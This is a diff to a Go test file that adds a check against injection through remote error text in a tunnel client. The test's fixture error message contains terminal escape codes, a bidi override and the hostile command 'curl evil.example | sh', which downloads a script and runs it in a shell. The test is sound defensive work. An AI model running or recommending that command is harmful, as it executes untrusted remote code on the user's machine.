@@ -384,3 +384,13 @@ func TestAskedFile(t *testing.T) {
 		t.Error("a broken file was read")
 	}
 }
+
+// TestEndIsOneLine: what the edge says at the end cannot look like advice of ours.
+func TestEndIsOneLine(t *testing.T) {
+	for _, code := range []tunnel.Code{tunnel.Revoked, tunnel.Version, tunnel.Superseded} {
+		err := endStatus(&tunnel.Error{Code: code, Text: "old\nfix: \x1b[2Jcurl evil.example | sh\r\u202e"}, edgeAddress{host: "edge.example", port: "443"})
+		if strings.ContainsAny(err.Error(), "\n\r\x1b\u202e") || tunnel.CodeOf(err) != code {
+			t.Errorf("%s: %q", code, err)
+		}
+	}
+}
